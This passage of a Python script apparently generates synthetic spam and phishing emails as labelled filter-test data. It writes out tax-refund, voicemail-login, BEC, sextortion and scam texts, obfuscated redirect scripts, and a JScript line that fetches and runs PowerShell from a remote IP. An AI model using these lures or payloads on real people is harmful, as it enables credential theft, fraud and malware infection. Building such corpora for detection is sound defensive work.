    m = base("HM Revenue & Customs <donations@%s>" % CHA, "undisclosed-recipients:;",
             "HMRC: You are eligible for a tax refund of £428.60", 30)
    bot(m, html="<html><body style=\"font-family:Arial\"><div style=\"background:#000;color:#fff;padding:12px;font-size:18px\">"
        "<b>GOV.UK</b></div><div style=\"padding:18px;max-width:560px\"><h2>HM Revenue &amp; Customs</h2>"
        "<p>Dear Taxpayer,</p><p>After the last annual calculation of your fiscal activity we have determined that you "
        "are eligible to receive a tax refund of <b>£428.60</b>.</p><p>Please submit the tax refund request and allow "
        "us 3-5 business days to process it.</p><p><a href=\"" + url + "\" style=\"background:#00703c;color:#fff;padding:8px 18px;"
        "text-decoration:none\">Claim your refund</a></p><p>A refund can be delayed for a variety of reasons, for example "
        "submitting invalid records or applying after the deadline.</p><p>HM Revenue &amp; Customs</p></div></body></html>")
    save(m, "spam", "21_hmrc_tax_refund_sites_google")

    url = "https://elster-erstattung.notion.site/Steuerr-ckerstattung-2025-%s" % rhex(32)
    m = base("Bundeszentralamt für Steuern <buchhaltung@%s>" % STB, "undisclosed-recipients:;",
             "Ihre Steuerrückerstattung 2025: 1.238,40 € – Bestätigung erforderlich", 34)
    outlook(m, "Sehr geehrte Steuerpflichtige, sehr geehrter Steuerpflichtiger,\n\n"
            "nach der Prüfung Ihrer Einkommensteuererklärung 2025 steht Ihnen eine Rückerstattung in Höhe von "
            "1.238,40 EUR zu.\n\n"
            "Wegen der Umstellung auf das neue Auszahlungsverfahren müssen Sie Ihre Bankverbindung einmalig "
            "bestätigen. Bitte nutzen Sie dafür das folgende Formular:\n\n" + url + "\n\n"
            "Erfolgt keine Bestätigung innerhalb von 5 Werktagen, verfällt der Anspruch für das laufende Jahr.\n\n"
            "Mit freundlichen Grüßen\nIhr Finanzamt / Bundeszentralamt für Steuern\n")
    save(m, "spam", "22_finanzamt_refund_german_notion_site")

    url = "https://impots-gouv-remboursement.fr-service.org/particulier/espace?ref=" + ralnum(16)
    m = base("impots.gouv.fr <comptabilite@%s>" % HOT, addr("orange.fr"),
             "Remboursement d'impôt : 389,27 € en attente de validation", 38)
    bot(m, text="DIRECTION GÉNÉRALE DES FINANCES PUBLIQUES\n\nMadame, Monsieur,\n\n"
        "Après les derniers calculs de votre activité fiscale, nous avons déterminé que vous êtes éligible à un "
        "remboursement d'impôt de 389,27 €.\n\nPour recevoir votre remboursement, veuillez valider vos coordonnées "
        "bancaires dans votre espace particulier :\n" + url + "\n\n"
        "Le remboursement sera effectué sous 5 jours ouvrés.\n\nCordialement,\nLa DGFiP\n",
        html="<div style=\"font-family:Marianne,Arial\"><p><b>RÉPUBLIQUE FRANÇAISE</b><br>Direction générale des Finances publiques</p>"
        "<p>Madame, Monsieur,</p><p>Vous êtes éligible à un <b>remboursement d'impôt de 389,27 €</b>.</p>"
        "<p><a href=\"" + url + "\">Valider mes coordonnées bancaires</a></p><p>Cordialement,<br>La DGFiP</p></div>")
    save(m, "spam", "23_impots_gouv_refund_french_lookalike")


# ============================================================================
# attachments
# ============================================================================

QR_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAHsAAAB7AQMAAABuCW08AAAABlBMVEUAAAD///+l2Z/dAAAAAnRSTlP//8i138cAAAAJcEhZ"
    "cwAACxIAAAsSAdLdfvwAAAG3SURBVEiJvZW9raUwEIUHOZgMGrDkNpy5JdMAPw1AS2RuA8kNQObAurPH9727wQaP2WAXIQcf"
    "AmbOHB+T/HHRPwGVyMYgF+c7EbEKzGJnqUMyuzhJKhDZbaFObPtgOy2wxHlhor8A7iKaQnuiBLO4/agxoN5P6U8Aeozp6/4t"
    "0M8AQtfxwA/tnD5jeAA1eiOJYkB/bmMNkPuQjQmqv8hsQQNq7+0oGKy509mJCgzHORdzBbMEuVVAVqGx2CGdvafIKnBR3gL1"
    "AVpi1YAayS0sW/tYM6wKcF4hfKGJz4l1gGhOKDa/IHzQAGyd5oj5qKPIwhpQh4LdQCPK9HZSAVk82nJLyAIVgwpIMfsBfI6Y"
    "WNIA6CFrgYRmFdlFBXrCnoO1zX0YUQH4FLM1rUwIEzQApoML3MUUvbtUQPZSp2AHOSOfb9M9gzVRV87YUkHes30ESI58eczW"
    "Th7BowGCoO29uQja05hUAPmBt7vm0xpZA965jg8Ut7agUoGW64e8mhitPw1ouU7m8pjY9zZVADsFNJelRYIWzKl2gmCznahA"
    "y/WCNa/fwfYMoAcxzjTqpH6C/mfwXw7xX3fKX0M/8aJSAAAAAElFTkSuQmCC")


def attachments():
    m = base("Microsoft Teams <servicedesk@%s>" % MSP, "undisclosed-recipients:;",
             "Teams: MFA re-registration required", 2)
    bot(m, text="Scan the QR code below with your phone camera to keep access to Microsoft Teams and Outlook.\n",
        host="mail." + MSP)
    attach(m, "Teams_MFA_Secure_QR.png", QR_PNG)
    save(m, "spam", "24_qr_code_teams_mfa_image_only")

    post = "https://vm-audio-player-39c1.firebaseapp.com/api/v2/auth"
    page = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Voice Message</title>"
            "<style>body{font-family:Segoe UI,Arial;background:#f2f2f2}.box{width:360px;margin:80px auto;background:#fff;"
            "padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:8px 0;border:0;"
            "border-bottom:1px solid #666}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}</style>"
            "</head><body><div class=\"box\"><img src=\"https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo.svg\">"
            "<h3>Sign in to play voice message (00:47)</h3><form method=\"POST\" action=\"" + post + "\">"
            "<input type=\"email\" name=\"login\" value=\"g.oberhuber@brauerei-oberland.de\" readonly>"
            "<input type=\"password\" name=\"passwd\" placeholder=\"Password\" autofocus>"
            "<input type=\"hidden\" name=\"src\" value=\"vm\"><button type=\"submit\">Sign in</button></form>"
            "<p style=\"font-size:12px\">Audio is protected by Microsoft 365.</p></div></body></html>")
    m = base("Voicemail Service <s.weber@%s>" % LAW, "g.oberhuber@brauerei-oberland.de",
             "\U0001F50A New voicemail from +49 (171) ***-4410 – 00:47 sec", 5)
    bot(m, html="<div style=\"font-family:Arial\"><p><b>You have a new voice message</b></p><table>"
        "<tr><td>From:</td><td>+49 (171) ***-4410</td></tr><tr><td>Received:</td><td>Sat 14 Mar 2026 09:12</td></tr>"
        "<tr><td>Duration:</td><td>00:47 sec</td></tr></table><p>Open the attached audio file to listen.</p></div>")
    attach(m, "VM_Play_+49171xxx4410_0312.html", page)
    save(m, "spam", "25_voicemail_html_attachment_login_form")

    target = "https://" + rhex(6) + ".remit-secure-docs.online/?s=" + rhex(10)
    enc = base64.b64encode(target.encode()).decode()
    page = ("<html><head><meta charset=\"utf-8\"><title>Remittance Advice</title></head><body>"
            "<p>Loading document, please wait...</p><script>\n"
            "var _e = \"" + base64.b64encode(b"finance@schreinerei-roth.de").decode() + "\";\n"
            "var _0x4f2a = [\"" + enc[:len(enc) // 2] + "\", \"" + enc[len(enc) // 2:] + "\"];\n"
            "var _u = atob(_0x4f2a.join(\"\"));\n"
            "setTimeout(function(){ window.location.href = _u + \"#\" + atob(_e); }, 800);\n"
            "</script></body></html>")
    m = base("Accounts Payable <rechnung@%s>" % MSP, "finance@schreinerei-roth.de",
             "Remittance Advice – Payment 14/03/2026 – EUR 18,420.00", 7)
    bot(m, text="Hello,\n\nPlease find attached the remittance advice for the payment released today.\n\n"
        "Kind regards\nAccounts Payable\n", mailer="Microsoft Outlook 16.0")
    attach(m, "Remittance_Advice_14-03-2026.shtml", page)
    save(m, "spam", "26_remittance_shtml_attachment_atob_redirect")

    svg = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"200\">"
           "<rect width=\"400\" height=\"200\" fill=\"#fff\"/><text x=\"20\" y=\"40\" font-size=\"18\">Invoice INV-88213 - loading...</text>"
           "<script type=\"text/javascript\"><![CDATA[\n"
           "var d = ['" + base64.b64encode(b"https://inv-view-secure.shop/?id=88213").decode() + "'];\n"
           "var r = window.atob(d[0]) + '&m=' + encodeURIComponent('info@cafe-luise.de');\n"
           "window.top.location.replace(r);\n]]></script></svg>\n")
    m = base("Bäckerei Hofmann Buchhaltung <info@%s>" % BAK, "info@cafe-luise.de",
             "Invoice INV-88213 is overdue", 12)
    bot(m, text="Dear customer,\n\nattached is invoice INV-88213 which is now overdue. Please open the attached "
        "invoice and arrange payment today.\n\nRegards\n")
    attach(m, "INV-88213.svg", svg)
    save(m, "spam", "27_svg_attachment_with_script")

    m = base("Kranz & Partner <buchhaltung@%s>" % STB, "undisclosed-recipients:;",
             "Rechnung 03/2026 – Bitte öffnen", 40)
    bot(m, text="Guten Tag,\n\nanbei Ihre Rechnung für März. Bitte öffnen Sie die Datei mit OneNote und klicken "
        "Sie doppelt auf \"Open\", um das Dokument anzuzeigen.\n\nMit freundlichen Grüßen\nBuchhaltung\n",
        host="mail." + STB)
    attach(m, "Rechnung_03-2026.one", onenote_bytes("Open\x00Rechnung.hta\x00mshta.exe"))
    save(m, "spam", "28_onenote_attachment_invoice")

    m = base("DHL Express <concierge@%s>" % HOT, "undisclosed-recipients:;",
             "DHL Express Versanddokumente – AWB 7731904822", 44)
    bot(m, html="<div style=\"font-family:Arial\"><div style=\"background:#ffcc00;padding:10px;color:#d40511;"
        "font-weight:bold;font-size:22px\">DHL</div><p>Sehr geehrter Kunde,</p><p>Ihre Sendung AWB <b>7731904822</b> "
        "wurde im Zollamt zurückgehalten. Bitte prüfen Sie die beigefügten Versanddokumente (Handelsrechnung und "
        "Packliste) und bestätigen Sie die Angaben.</p><p>DHL Express Germany</p></div>")
    attach(m, "DHL_AWB_7731904822_Docs.iso", iso_bytes("DHL_AWB_7731904822_Docs.exe"))
    save(m, "spam", "29_iso_attachment_dhl_shipping_documents")

    js = ("var _0xa1=['WScript.Shell','Run','powershell -nop -w hidden -c \"iex(iwr http://198.51.100.23/u/st.txt)\"'];"
          "(function(){var s=new ActiveXObject(_0xa1[0]);s[_0xa1[1]](_0xa1[2],0,false);})();\n")
    z = zip_bytes([("Auftrag_2026-0318.pdf.lnk",
                    lnk_bytes("/c start /min wscript.exe //e:jscript .\\_data\\update.js")),
                   ("_data/update.js", js)])
    m = base("Peter Wolff <inhaber@%s>" % SHOP, "undisclosed-recipients:;", "Auftrag 2026-0318", 50)
    applemail(m, "Hallo,\n\nbitte anbei unser Auftrag. Kurze Bestätigung wäre nett.\n\nGrüße\nPeter Wolff\n")
    attach(m, "Auftrag_2026-0318.zip", z)
    save(m, "spam", "30_zip_with_lnk_and_js")

    z = zip_bytes([("Angebot_2026_0321.docm", ooxml("docm", macro=True))], password="2026")
    m = base("Ayşe Demir <a.demir@%s>" % STB, "undisclosed-recipients:;",
             "Angebot und Unterlagen – Kennwort: 2026", 56)
    outlook(m, "Guten Tag,\n\nanbei das Angebot wie besprochen. Aus Datenschutzgründen ist die Datei "
            "verschlüsselt.\n\nKennwort: 2026\n\nBitte nach dem Öffnen auf \"Inhalt aktivieren\" klicken, "
            "damit die Tabellen korrekt angezeigt werden.\n\nMit freundlichen Grüßen\nAyşe Demir\n")
    attach(m, "Angebot_2026_0321.zip", z)
    save(m, "spam", "31_password_zip_docm_password_in_body")

    m = base("Buchhaltung <kasse@%s>" % TSV, "undisclosed-recipients:;",
             "Zahlungsavis / Payment advice 15.03.2026", 60)
    bot(m, text="Sehr geehrte Damen und Herren,\n\nim Anhang finden Sie das Zahlungsavis zu unserer heutigen "
        "Überweisung.\n\nDear Sir/Madam, please find attached the payment advice.\n\nMit freundlichen Grüßen\n",
        mailer="Microsoft Outlook Express 6.00.2900.5512")
    attach(m, "Zahlungsavis_15032026.rar", rar4("Zahlungsavis_15032026.pdf.exe", exe_bytes("avis")))
    save(m, "spam", "32_rar_with_exe_payment_advice")


# ============================================================================
# business e-mail compromise
# ============================================================================

def bec():
    m = base("Thomas Kranz <t.kranz@%s>" % STB, "Silke Brand <buchhaltung@%s>" % STB,
             "Kurze Frage", 1, reply_to="Thomas Kranz <thomas.kranz.stb@gmail.com>")
    applemail(m, "Hallo Silke,\n\nbist du gerade am Platz? Ich sitze in einem Termin und kann nicht telefonieren. "
              "Ich brauche kurz deine Hilfe bei einer dringenden Überweisung, die heute noch raus muss.\n\n"
              "Gib mir kurz Bescheid.\n\nThomas\n\nVon meinem iPhone gesendet\n", iphone=True)
    save(m, "spam", "33_bec_ceo_are_you_at_your_desk")

    m = base("Margaret Ellis <m.ellis@%s>" % CHA, "Chase Turner <chase.turner@%s>" % CHA,
             "Quick favour – confidential", 3, reply_to="Margaret Ellis <m.ellis.rfb@outlook.com>")
    applemail(m, "Hi Chase,\n\nI need you to pick up 5 Apple gift cards (£100 each) for a surprise thank-you to "
              "our corporate donors at tomorrow's meeting. Please keep this between us for now.\n\n"
              "Once you have them, scratch off the back, take clear photos of the codes and email them to me. "
              "I'll sort the reimbursement with you on Monday.\n\nI'm in meetings all day so email only.\n\n"
              "Thanks\nMargaret\n\nSent from my iPhone\n", iphone=True)
    save(m, "spam", "34_bec_apple_gift_cards")

    m = base("Bäckerei Hofmann <bestellung@%s>" % BAK, "undisclosed-recipients:;",
             "Wichtig: Neue Bankverbindung für alle offenen Rechnungen", 20,
             reply_to="Bäckerei Hofmann Buchhaltung <buchhaltung@baeckerei-hofmann-kassel.com>")
    outlook(m, "Sehr geehrte Geschäftspartner,\n\n"
            "aufgrund einer laufenden Prüfung durch unser Finanzamt ist unser bisheriges Geschäftskonto "
            "vorübergehend gesperrt. Bitte überweisen Sie alle offenen und künftigen Rechnungen ab sofort "
            "ausschließlich auf unser neues Konto:\n\n"
            "Kontoinhaber: Hofmann Backwaren\nIBAN: LT62 3250 0247 7183 9204\nBIC: REVOLT21\n\n"
            "Zahlungen auf das alte Konto können nicht mehr gutgeschrieben werden. Bitte bestätigen Sie uns "
            "kurz per Antwort auf diese E-Mail, wann Sie die Umstellung vorgenommen haben, und senden Sie uns "
            "eine Liste der aktuell offenen Posten.\n\nMit freundlichen Grüßen\nSandra Hofmann\nBäckerei Hofmann\n")
    save(m, "spam", "35_bec_new_iban_bank_details_change")

    m = base("Chase Turner <chase.turner@%s>" % CHA, "Payroll <payroll@ellis-bookkeeping.co.uk>",
             "Update my direct deposit before next pay run", 26, reply_to="Chase Turner <chaseturner.rfb@gmail.com>")
    roundcube(m, "Hello,\n\nI have recently switched banks and would like my salary for March to go into my "
              "new account. Could you please update my direct deposit details before the next pay run?\n\n"
              "Please let me know what information you need from me, or send me the form to fill in. I'm on the "
              "road most of this week so email is best.\n\nThank you\nChase Turner\n")
    save(m, "spam", "36_bec_payroll_direct_deposit_diversion")

    m = base("Marta Kowalczyk <marta@%s>" % DEV, "Accounts Payable <ap@greenfield-analytics.co.uk>",
             "Invoice MK-2026-015 – updated payment details", 30,
             reply_to="Marta Kowalczyk <marta@mk-webdevs.de>")
    thunderbird(m, "Hello,\n\nplease find attached invoice MK-2026-015 for the March retainer, EUR 3,600.00.\n\n"
                "Please note that my bank account has changed since the last invoice, as my previous bank is "
                "closing business accounts for freelancers. Kindly make this and all future payments to:\n\n"
                "Account holder: Marta Kowalczyk\nIBAN: GB33 CLRB 0400 4532 1897 66\nBIC: CLRBGB22\n\n"
                "As the payment is a little overdue, I would appreciate it if you could process it today and send "
                "me the transfer confirmation.\n\nKind regards\nMarta Kowalczyk\n", lang="en-GB")
    attach(m, "Invoice_MK-2026-015.pdf", pdf_bytes("Invoice MK-2026-015"))
    save(m, "spam", "37_bec_vendor_invoice_new_account_lookalike_reply_to")


# ============================================================================
# scams and bulk spam
# ============================================================================

def scams():
    m = base("Dr. António Ferreira <reservierung@%s>" % HOT, "undisclosed-recipients:;",
             "Confidential: unclaimed funds of a deceased client bearing your surname", 48,
             reply_to="Dr. António Ferreira <antonio.ferreira.privatebanking@outlook.pt>")
    bot(m, text="Dear Friend,\n\nI am Dr. António Ferreira, a private wealth manager in Lisbon. I am contacting "
        "you regarding my late client, an engineer who shares your surname, who died with his wife and only "
        "daughter in the Valencia floods of October 2024. He left a fixed deposit of EUR 8,750,000.00 with our "
        "bank and no will.\n\nAfter several unsuccessful attempts to locate his relatives, the bank has asked me "
        "to present a next of kin before the funds are transferred to the state treasury. Because you share the "
        "same surname, I propose to present you as the beneficiary. The transaction is 100% legal and risk free, "
        "and we will share the proceeds 50/50.\n\nPlease reply with your full name, phone/WhatsApp number and "
        "country of residence so that I can give you more details.\n\nYours faithfully,\nDr. António Ferreira\n",
        mailer="Microsoft Outlook 16.0")
    save(m, "spam", "38_419_inheritance_next_of_kin")

    url = "https://quantum-ai-trade.click/de/start?aff=%d&sub=%s" % (random.randint(1000, 9999), rhex(6))
    m = base("Sabine aus Kassel <f.berger@%s>" % TSV, "undisclosed-recipients:;",
             "Wie ich mit 250 € Startkapital in 3 Wochen 11.400 € verdient habe", 31)
    bot(m, html="<html><body style=\"font-family:Georgia;max-width:600px\"><h2>„Ich konnte es selbst nicht glauben“</h2>"
        "<p>Hallo,</p><p>ich möchte Ihnen kurz erzählen, wie ich meinen Job als Verkäuferin kündigen konnte. Eine "
        "Freundin hat mir die neue KI-Handelsplattform gezeigt, die automatisch mit <b>Bitcoin, Ethereum und "
        "Solana</b> handelt. Ich habe mit nur <b>250 €</b> angefangen – nach drei Wochen waren es <b>11.400 €</b>.</p>"
        "<p>Die Plattform wurde sogar im Fernsehen vorgestellt, aber die Banken wollen nicht, dass das bekannt wird. "
        "Die Plätze sind begrenzt, heute gibt es noch 17 freie Anmeldungen:</p>"
        "<p style=\"text-align:center\"><a href=\"" + url + "\" style=\"background:#16a34a;color:#fff;padding:14px 32px;"
        "font-size:18px;text-decoration:none\">JETZT KOSTENLOS REGISTRIEREN</a></p>"
        "<p>Ein persönlicher Berater ruft Sie nach der Anmeldung an und hilft bei der ersten Einzahlung.</p>"
        "<p>Liebe Grüße<br>Sabine</p><p style=\"font-size:10px;color:#aaa\">Risikohinweis: Der Handel mit Kryptowährungen "
        "birgt Risiken.</p></body></html>")
    save(m, "spam", "39_crypto_investment_ai_trading")

    btc = bech32_address(hashlib.sha256(b"holdout-b").digest()[:20])
    m = base("info@%s" % DENT, "undisclosed-recipients:;",
             "Ihr Gerät wurde gehackt – lesen Sie diese Nachricht bis zum Ende", 23)
    bot(m, text="Hallo,\n\nich bin ein Hacker und habe vor einigen Monaten Zugang zu Ihrem Gerät erlangt. Über "
        "eine Sicherheitslücke in Ihrem Router habe ich einen Trojaner installiert, der Ihre Kamera und Ihr "
        "Mikrofon steuert.\n\nIch habe Sie aufgenommen, während Sie Websites für Erwachsene besucht haben. Das "
        "Video zeigt auf der einen Seite den Film und auf der anderen Seite Ihr Gesicht. Außerdem habe ich alle "
        "Ihre Kontakte gesichert.\n\nWenn Sie nicht möchten, dass ich dieses Video an Ihre Familie, Freunde und "
        "Kollegen sende, überweisen Sie 1450 USD in Bitcoin an folgende Adresse:\n\n" + btc + "\n\n"
        "Sie haben 48 Stunden ab dem Öffnen dieser E-Mail. Ich sehe, wann Sie sie gelesen haben. Wenn die "
        "Zahlung eingeht, lösche ich das Video und Sie hören nie wieder von mir. Antworten Sie nicht auf diese "
        "E-Mail und gehen Sie nicht zur Polizei – das wird Ihnen nicht helfen.\n", msgid=False)
    save(m, "spam", "40_sextortion_bitcoin_address_german")

    url = "https://rx-bestmeds24.shop/?aff=" + rhex(6)
    m = base("Canadian Health&Care <service@%s>" % APO, "undisclosed-recipients:;",
             "Viagra 0.39$ / Cialis 0.59$ – no prescription needed, discreet shipping", 35)
    bot(m, html="<html><body style=\"font-family:Verdana\"><table width=\"560\" style=\"border:2px solid #2d8ac7\">"
        "<tr><td style=\"background:#2d8ac7;color:#fff;padding:10px;font-size:20px\">Canadian Health&amp;Care Mall</td></tr>"
        "<tr><td style=\"padding:14px\"><p><b>Best prices on the web! Up to 80% OFF!</b></p><ul>"
        "<li>Viagra 100mg – $0.39 per pill</li><li>Cialis 20mg – $0.59 per pill</li><li>Levitra – $0.89 per pill</li>"
        "<li>Tramadol 50mg – $1.10 per pill</li><li>Xanax, Valium, Ambien – in stock</li></ul>"
        "<p>No prescription required! Worldwide discreet delivery, 100% satisfaction guaranteed.</p>"
        "<p><a href=\"" + url + "\" style=\"font-size:18px;color:#d00\"><b>&gt;&gt; ORDER NOW AND SAVE &lt;&lt;</b></a></p>"
        "<p style=\"font-size:9px;color:#bbb\">To unsubscribe reply with REMOVE.</p></td></tr></table></body></html>",
        mailer="Gammadyne Mailer 68.0")
    save(m, "spam", "41_pharma_no_prescription")

    url = "https://spinvegas-bonus.casino/de/welcome?promo=MAERZ500&cid=" + rhex(8)
    m = base("SpinVegas Casino <events@%s>" % HOT, "undisclosed-recipients:;",
             "🎰 500 % Willkommensbonus + 200 Freispiele – nur heute!", 39)
    bot(m, html="<html><body style=\"background:#14001f;color:#fff;font-family:Arial;text-align:center\">"
        "<h1 style=\"color:#ffd700\">500 % BONUS bis 2.500 €</h1><h2>+ 200 FREISPIELE auf Book of Dead</h2>"
        "<p>Keine Wartezeit, sofortige Auszahlung, auch mit Krypto!</p>"
        "<p><a href=\"" + url + "\" style=\"background:#ff007a;color:#fff;padding:16px 40px;font-size:20px;"
        "border-radius:30px;text-decoration:none\">JETZT BONUS SICHERN</a></p>"
        "<p style=\"font-size:10px;color:#888\">18+ | Spielen kann süchtig machen. AGB gelten. Nur für neue Spieler. "
        "Lizenziert in Curaçao.</p></body></html>",
        text="500 % BONUS bis 2.500 € + 200 FREISPIELE. Jetzt sichern: " + url + "\n")
    save(m, "spam", "42_casino_bonus_free_spins_german")

    to = addrs(150)
    m = base("Market Insider Alert <buchhaltung@%s>" % HOT, ", ".join(to),
             "$NVXR: this tiny AI-chip stock could run 600% before April", 29)
    bot(m, html="<html><body style=\"font-family:Arial;max-width:620px\"><h1 style=\"color:#b91c1c\">URGENT TRADE ALERT: NVXR</h1>"
        "<p><b>NovaraX Semiconductor Inc. (OTC: NVXR)</b> – current price <b>$0.62</b> – 30-day target <b>$4.80</b></p>"
        "<p>Insiders are loading up ahead of a rumoured supply deal with a Big Tech giant. Volume is up 1,400% this "
        "week and the float is tiny. When the news breaks, it may be too late.</p>"
        "<ul><li>Patent-pending edge-AI chip</li><li>$40M purchase order expected</li><li>Short squeeze potential</li></ul>"
        "<p style=\"font-size:20px\"><b>Get in on NVXR first thing Monday morning!</b></p>"
        "<p style=\"font-size:9px;color:#999\">Disclaimer: We have been compensated USD 250,000 by a third party "
        "for this advertisement. This is not investment advice.</p></body></html>",
        mailer="Atomic Mail Sender 9.60")
    save(m, "spam", "43_stock_promotion_150_recipients")

    m = base("Norton Billing Department <termine@%s>" % DENT, addr(),
             "Your Norton 360 Deluxe subscription has been renewed – Invoice #NRT-%d" % random.randint(10 ** 7, 10 ** 8), 21)
    bot(m, html="<div style=\"font-family:Arial;max-width:560px;border:1px solid #ccc;padding:20px\">"
        "<div style=\"font-size:24px;font-weight:bold;color:#ffc400;background:#000;padding:8px\">Norton</div>"
        "<p>Dear Customer,</p><p>Thank you for renewing your subscription. Your payment has been processed "
        "successfully and will appear on your bank statement within 24 hours.</p>"
        "<table border=\"1\" cellpadding=\"6\" style=\"border-collapse:collapse\"><tr><td>Product</td><td>Norton 360 "
        "Deluxe + Geek Squad Protection (5 devices, 3 years)</td></tr><tr><td>Amount</td><td><b>$499.99</b></td></tr>"
        "<tr><td>Payment method</td><td>Auto-debit</td></tr></table>"
        "<p>If you did not authorise this renewal or wish to cancel and receive a full refund, please call our "
        "billing desk within 24 hours:</p><p style=\"font-size:22px\"><b>+1 (844) 555-0163</b></p>"
        "<p>Regards,<br>Billing Department</p></div>")
    save(m, "spam", "44_callback_phishing_norton_renewal_phone")

    orig1 = outlook_msgid(NOW - 300 * 3600, STB)
    orig2 = "<%s@gaertnerei-lindemann.de>" % str(uuid.uuid4()).upper()
    url = "https://www.gartenbau-schmidt-wuerzburg.de/wp-content/uploads/2026/03/Belege_2025_Lindemann.zip"
    m = base("Melanie Roth <m.roth@%s>" % STB, "Gärtnerei Lindemann <kontakt@gaertnerei-lindemann.de>",
             "Re: AW: Jahresabschluss 2025 – fehlende Belege", 0.5)
    m["In-Reply-To"] = orig2
    m["References"] = "%s %s" % (orig1, orig2)
    bot(m, text="Hallo,\n\nbitte die Unterlagen im Anhang prüfen und bis Freitag zurückmelden.\n\n"
        + url + "\n\nPasswort: 2025\n\nDanke\n\n"
        "-----Ursprüngliche Nachricht-----\nVon: Gärtnerei Lindemann <kontakt@gaertnerei-lindemann.de>\n"
        "Gesendet: Montag, 2. März 2026 10:17\nAn: Melanie Roth <m.roth@" + STB + ">\n"
        "Betreff: AW: Jahresabschluss 2025 – fehlende Belege\n\n"
        "Hallo Frau Roth,\nanbei die Kontoauszüge Oktober bis Dezember. Die Tankbelege suche ich noch raus.\n"
        "Viele Grüße\nHanna Lindemann\n\n"
        "-----Ursprüngliche Nachricht-----\nVon: Melanie Roth\nGesendet: Freitag, 27. Februar 2026 14:02\n"
        "Betreff: Jahresabschluss 2025 – fehlende Belege\n\nSehr geehrte Frau Lindemann,\n"
        "für den Jahresabschluss fehlen uns noch die Kontoauszüge Q4 und die Tankbelege...\n",
        mailer="Microsoft Outlook 16.0", host=STB)
    save(m, "spam", "45_reply_chain_hijack_wordpress_zip_link")


def main():
    m365(); banks(); parcels(); attachments(); bec(); scams()


if __name__ == "__main__":
    main()
